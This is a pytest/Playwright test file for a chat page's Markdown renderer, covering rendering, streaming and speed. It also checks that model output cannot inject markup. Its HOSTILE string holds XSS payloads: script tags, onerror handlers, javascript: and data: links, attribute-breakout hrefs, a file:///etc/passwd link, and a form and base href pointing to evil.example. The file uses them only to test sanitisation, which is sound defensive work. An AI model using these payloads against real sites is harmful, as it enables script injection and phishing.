"""The chat page's Markdown: what it makes of any text, and that a text never becomes more than that."""

import re
import time

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Dialog, expect

from support.chat_page import ChatPage
from support.page_server import FRAME_S, PageServer, Reply, event, shown, whole
from support.soak import SOAK

EXAMPLES = 200 if SOAK else 8
LONG = 100_000
LIMIT_S = 10
LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


# --- Markdown ---


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        ("# A\n###### B\n#no", "<h3>A</h3><h6>B</h6><p>#no</p>"),
        ("**a** *b* ***c***", "<p><strong>a</strong> <em>b</em> <strong><em>c</em></strong></p>"),
        ("__a__ _b_ ~~c~~", "<p><strong>a</strong> <em>b</em> <del>c</del></p>"),
        ("**a *b* c** and *d **e** f*", "<p><strong>a <em>b</em> c</strong> and <em>d <strong>e</strong> f</em></p>"),
        ("2 * 3 * 4, snake_case_name, a ** b, *a", "<p>2 * 3 * 4, snake_case_name, a ** b, *a</p>"),
        ("**a *b** c", "<p><strong>a *b</strong> c</p>"),
        (r"\*a\* \` \[b](c)", "<p>*a* ` [b](c)</p>"),
        ("`a*b*` ``c`d`` `e", "<p><code>a*b*</code> <code>c`d</code> `e</p>"),
        ("- a\n- b\n  - c\n  - d\n- e", "<ul><li>a</li><li>b<ul><li>c</li><li>d</li></ul></li><li>e</li></ul>"),
        ("3. a\n4. b\n\n   c", '<ol start="3"><li>a</li><li><p>b</p><p>c</p></li></ol>'),
        ("1. a\n   - b\n\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        ("text:\n- a\n\nmore", "<p>text:</p><ul><li>a</li></ul><p>more</p>"),
        ("> a\n> - b\n\nc", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote><p>c</p>"),
        ("a\n\n---\n\n* * *", "<p>a</p><hr><hr>"),
        ("[a *b*](https://c.de/f_(g)?h=1)", f'<p><a href="https://c.de/f_(g)?h=1" {LINK}>a <em>b</em></a></p>'),
        ("see https://a.bc/d_e. Or", f'<p>see <a href="https://a.bc/d_e" {LINK}>https://a.bc/d_e</a>. Or</p>'),
        ("[m](mailto:a@b.cd)", f'<p><a href="mailto:a@b.cd" {LINK}>m</a></p>'),
        ("![alt](https://a.bc/d.png)", f'<p><a href="https://a.bc/d.png" {LINK}>alt</a></p>'),
        ("<https://a.bc/d.> <b", f'<p><a href="https://a.bc/d." {LINK}>https://a.bc/d.</a> &lt;b</p>'),
        ("<https://a.bc/d", f'<p>&lt;<a href="https://a.bc/d" {LINK}>https://a.bc/d</a></p>'),
        ("[<https://a.bc>](https://d.ef)", f'<p><a href="https://d.ef/" {LINK}>https://a.bc</a></p>'),
        ("- [x] *a*\n- [ ] b", '<ul><li class="task">☑ <em>a</em></li><li class="task">☐ b</li></ul>'),
        ("- [x]\n- [x](https://a.bc)", f'<ul><li>[x]</li><li><a href="https://a.bc/" {LINK}>x</a></li></ul>'),
        ("1. [X] a", "<ol><li>[X] a</li></ol>"),
        ("&amp; <b>", "<p>&amp;amp; &lt;b&gt;</p>"),
        ("a | b\nno table", "<p>a | b<br>no table</p>"),
    ],
)  # fmt: skip
def test_markdown_is_shown(shared: ChatPage, server: PageServer, text: str, markup: str) -> None:
    """What models write of it."""
    assert shown(shared, server, text) == markup.replace("<ol>", '<ol start="1">')


def test_tables_and_code_can_be_scrolled_by_keyboard(shared: ChatPage, server: PageServer) -> None:
    """They may be wider than a phone."""
    shown(shared, server, "| a | b | c |\n|---|:-:|--:|\n| 1 | `x\\|y` | |\n\n```py\nif a < b:\n\n    c\n```")
    assert shared.prose.locator("table").inner_html() == (
        '<thead><tr><th>a</th><th class="center">b</th><th class="right">c</th></tr></thead>'
        '<tbody><tr><td>1</td><td class="center"><code>x|y</code></td><td class="right"></td></tr></tbody>'
    )
    assert shared.prose.get_by_role("region", name="Table").get_attribute("tabindex") == "0"
    assert shared.prose.locator("pre").get_attribute("tabindex") == "0"
    assert shared.prose.locator("pre").text_content() == "if a < b:\n\n    c"
    assert shared.prose.locator(".code span").text_content() == "py"


PIECES = st.sampled_from(
    ["*", "**", "_", "~~", "`", "```", "```py\n", "\n", "\n\n", "  ", "# ", "- ", "1. ", "> ", "|", "---", "[", "](",
     "| a | b |\n|---|-:|\n", "[a](https://b.c)", "\\", "word", " word ", "1", "https://d.ef/.", "é🙂", "\t", "\r\n"]
)  # fmt: skip


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(PIECES, min_size=2, max_size=12))
@example(["a\n", "#", "b"])  # a heading, until it isn't one
@example(["a\nb | c\n", "-|-", "x"])  # nor a table
def test_a_text_that_grew_looks_like_one_that_came_at_once(
    shared: ChatPage, server: PageServer, pieces: list[str]
) -> None:
    """Whatever was half open on the way."""
    server.reply = Reply(whole(*pieces), pause_s=FRAME_S)
    shared.ask("?")
    grown = shared.markup
    assert grown == shown(shared, server, "".join(pieces))


def test_half_open_markup_is_not_seen_as_such(page: ChatPage, server: PageServer) -> None:
    """A bold word is bold from its first letter on, and the address of a link never shows."""
    begun = [event("start", model="m"), event("token", content="See **the [guide](https://exam")]
    server.reply = Reply([*begun, b": keep-alive\n\n"], pause_s=1.0)
    page.begin("?")
    expect(page.prose).to_have_text("See the guide")
    assert page.markup == "<p>See <strong>the guide</strong></p>"


@pytest.mark.parametrize("begun", ["-", "--", "- -", "*", "__", "  -"])
@pytest.mark.parametrize("before", ["Above\n\n", "Above\n"])
def test_a_rule_is_no_bullet_first(page: ChatPage, server: PageServer, before: str, begun: str) -> None:
    """Nor text: its signs may come one by one."""
    started = [event("start", model="m"), event("token", content=before), event("token", content=begun)]
    server.reply = Reply([*started, b": keep-alive\n\n"], pause_s=0.2)
    page.begin("?")
    expect(page.last.locator(".foot span")).to_contain_text("tokens/s")  # both pieces are there
    assert page.markup == "<p>Above</p>"


def test_an_autolink_is_begun_without_its_bracket(page: ChatPage, server: PageServer) -> None:
    """Which would go away again."""
    started = [event("start", model="m"), event("token", content="See <https://exam")]
    server.reply = Reply([*started, b": keep-alive\n\n"], pause_s=1.0)
    page.begin("?")
    expect(page.prose).to_have_text("See https://exam")


def test_what_is_selected_stays_so_while_the_answer_grows(page: ChatPage, server: PageServer) -> None:
    """Nor does a code block lose the focus: what is the same is left alone."""
    server.reply = Reply([*whole(*(["first words "] + ["and more "] * 20))[:-2], *whole()[-2:]], pause_s=FRAME_S)
    page.begin("?")
    expect(page.prose).to_contain_text("first words")
    page.tab.run("() => getSelection().setBaseAndExtent(document.querySelector('.prose p').firstChild, 0,"
                 " document.querySelector('.prose p').firstChild, 5)")  # fmt: skip
    page.ended()
    assert page.text.endswith("and more")
    assert page.tab.run("() => getSelection().toString()") == "first"


@pytest.mark.parametrize(
    "unit",
    [
        "*a ",
        "**a *b __c ~~d ",
        "[a](b",
        '[a](b "c ',
        "[",
        "`a``b",
        "> ",
        "- a\n  ",
        "|a|b\n|-|-\n",
        "https://a.b/).",
        "~~~\n",
        "```" + " " * (3 * LONG) + "`",
    ],
    ids=lambda unit: repr(unit[:12]),
)
def test_no_text_keeps_the_page_busy(page: ChatPage, server: PageServer, unit: str) -> None:
    """The time that it takes grows no faster than the text."""
    server.reply = Reply(whole(unit * max(1, LONG // len(unit))))
    started = time.monotonic()
    page.ask("?")
    assert time.monotonic() - started < LIMIT_S
    expect(page.last.locator(".foot button")).to_have_text("Copy")


def test_a_long_answer_grows_as_fast_as_a_short_one(shared: ChatPage) -> None:
    """What is certain is not looked at again: else a thousand pieces would take a million steps."""
    taken_ms = shared.tab.run(
        """() => {
            const prose = new Prose(document.createElement("div")), began = performance.now();
            for (let at = 0; at < 3000; at += 1) { prose.add("one **two** three\\n\\n"); prose.draw(true); }
            return performance.now() - began;
        }"""
    )
    assert taken_ms < 1000 * LIMIT_S / 4


# --- what a model may write against the page ---


HOSTILE = """
<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
<iframe srcdoc="<script>alert(4)</script>"></iframe>
[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](data:text/html,<script>alert(7)</script>)
[d](vbscript:x) [e](//f.gh) [d](javascript&colon;x)
[f](\x01javascript:alert(8)) [g](java\tscript:alert(9)) [h](file:///etc/passwd) [i](blob:x)
![x](javascript:alert(10))
[j](https://k.lm" onmouseover="alert(11)) [n](https://o.pq/'onclick='alert(12)')

# <img src=x onerror=alert(13)>
> <style>*{display:none}</style>
- <a href="javascript:alert(14)">x</a>

| <b>a</b> | <img src=x onerror=alert(15)> |
|---|---|
| `<script>alert(16)</script>` | [r](javascript:alert(17)) |

```html"><script>alert(18)</script>
<script>alert(19)</script>
```
<form action=https://evil.example><input name=p><button>go</button></form><base href=https://evil.example>
<meta http-equiv=refresh content=0>
"""
INNOCENT = {"P", "BR", "H3", "BLOCKQUOTE", "UL", "LI", "A", "SPAN", "CODE", "PRE", "DIV", "BUTTON",
            "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"}  # fmt: skip
ATTRIBUTES = {"class", "href", "target", "rel", "tabindex", "role", "aria-label", "type", "data-action"}


@pytest.mark.parametrize("pause_s", [0, FRAME_S], ids=["at once", "as it grows"])
def test_hostile_text_stays_text(page: ChatPage, server: PageServer, pause_s: float) -> None:
    """No element, attribute or address of it comes to be, whether it comes whole or in pieces."""
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.tab.page.on("dialog", dismiss)
    pieces = re.findall(r"(?s).{1,60}", HOSTILE) if pause_s else [HOSTILE]
    server.reply = Reply(whole(*pieces), pause_s=pause_s)
    page.ask("<img src=x onerror=alert(0)>")
    found = page.tab.run("""() => [...document.querySelectorAll(".prose *")].map((node) =>
        [node.tagName, node.getAttributeNames(), node.getAttribute("href"), node.dataset.action ?? null])""")
    assert {name for name, *_ in found} <= INNOCENT
    assert {attribute for _, names, *_ in found for attribute in names} <= ATTRIBUTES
    addresses = [href for *_, href, _ in found if href is not None]
    assert all(address.startswith("https://") for address in addresses), addresses
    assert {action for *_, action in found} <= {None, "copy-code"}
    assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in page.text
    assert page.tab.page.locator("article.said img").count() == 0
    assert (dialogs, page.tab.errors) == ([], [])


def test_even_a_script_in_the_page_could_not_make_markup_of_a_text(page: ChatPage) -> None:
    """The headers forbid it, should the page's own code ever forget."""
    tried = page.tab.run(
        """() => { try { document.body.innerHTML = "<b>x</b>"; } catch (error) { return error.name; } }"""
    )
    assert tried == "TypeError"
